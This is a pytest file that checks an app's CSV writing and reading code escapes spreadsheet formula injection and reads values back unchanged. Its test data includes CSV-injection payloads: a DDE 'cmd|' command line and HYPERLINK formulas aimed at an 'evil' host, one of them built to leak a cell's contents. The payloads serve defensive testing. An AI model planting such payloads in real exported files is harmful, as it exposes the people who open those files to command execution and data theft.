"""Exported CSV is not a weapon: no cell the app writes runs as a spreadsheet formula, and the
app's own CSV files read back exactly what was written."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intentdesk.core.csv_cells import plain_cell, safe_cell
from intentdesk.core.errors import DatasetError
from intentdesk.core.inference.results import FileResult, Prediction, write_results_csv

FORMULAS = ["=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


def looks_like_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@given(st.text())
def test_safe_cell_never_starts_a_formula_and_plain_cell_undoes_it(text):
    assert not looks_like_formula(safe_cell(text))
    assert plain_cell(safe_cell(text)) == text


def test_results_csv_neutralises_labels_file_names_transcripts_and_errors(tmp_path):
    results = [FileResult("=cmd|' /C calc'!A0.wav", [Prediction("=HYPERLINK(\"http://evil\")", 0.9),
                                                     Prediction("@SUM(1)", 0.1)], 3.0, transcript="+44 call me"),
               FileResult("-bad.wav", None, 0.0, error="=1+1 cannot read it")]
    path = write_results_csv(results, tmp_path / "out.csv")
    rows = list(csv.reader(path.open(encoding="utf-8")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(looks_like_formula(cell) for cell in cells)
    assert rows[1][0] == "'=cmd|' /C calc'!A0.wav" and rows[1][1] == "'=HYPERLINK(\"http://evil\")"
    assert rows[1][2] == "0.9000"  # numbers stay numbers


@pytest.mark.parametrize("text", FORMULAS + ["'quoted already", "plain"])
def test_phrases_and_transcripts_round_trip_and_are_safe_on_disk(tmp_path, text):
    from intentdesk.core.data.store import DatasetStore

    store = DatasetStore.create(tmp_path / "data")
    store.texts.add_phrases("balance", [text if text.strip() else "x"])
    on_disk = (store.root / "phrases.csv").read_text(encoding="utf-8").splitlines()[1]
    assert not looks_like_formula(on_disk.split(",", 1)[1].lstrip('"'))
    assert DatasetStore.open(store.root).texts.phrases() == [("balance", " ".join(text.split()))]


def test_metadata_csv_cells_are_safe_on_disk_and_read_back_unchanged(tone_dataset):
    clip = tone_dataset.clips[0]
    tone_dataset.texts.set_transcripts({clip.file_name: "=HYPERLINK(\"http://evil\")"}, by="user")
    text = (tone_dataset.root / "metadata.csv").read_text(encoding="utf-8")
    assert ",=HYPERLINK" not in text and ",\"=HYPERLINK" not in text
    reopened = {c.file_name: c for c in type(tone_dataset).open(tone_dataset.root).clips}
    assert reopened[clip.file_name].transcript == "=HYPERLINK(\"http://evil\")"


@pytest.mark.parametrize("label", ["=1+1", "+x", "-x", "@x"])
def test_a_hand_made_metadata_csv_cannot_bring_in_a_formula_label(tmp_path, label):
    from intentdesk.core.data.store import DatasetStore

    store = DatasetStore.create(tmp_path / "data")
    (store.root / "clips" / "x").mkdir(parents=True)
    (store.root / "metadata.csv").write_text(f"file_name,label\nclips/x/a.wav,{label}\n")
    with pytest.raises(DatasetError, match="cannot start with = \\+ - @"):
        assert DatasetStore.open(store.root).clips == []  # never reached: opening refuses the row


@pytest.mark.parametrize("text", ["'twas brillig", "'", "it's"])
def test_a_quote_the_person_typed_is_kept(text):
    """A metadata.csv made by hand: only the quote `safe_cell` adds (before a formula start or a quote) comes off."""
    assert plain_cell(text) == text


def test_column_names_are_safe_on_disk_and_read_back_unchanged(tone_dataset):
    from intentdesk.core.data.metadata_csv import Clip

    column = '=HYPERLINK("http://evil/?"&A1;"click")'
    tone_dataset.change_rows(lambda rows: [Clip(c.file_name, c.label, {**c.extra, column: "x"}) for c in rows])
    header = (tone_dataset.root / "metadata.csv").read_text(encoding="utf-8").splitlines()[0]
    assert not any(looks_like_formula(cell) for cell in next(csv.reader([header])))
    reopened = type(tone_dataset).open(tone_dataset.root).clips
    assert all(clip.extra[column] == "x" for clip in reopened)
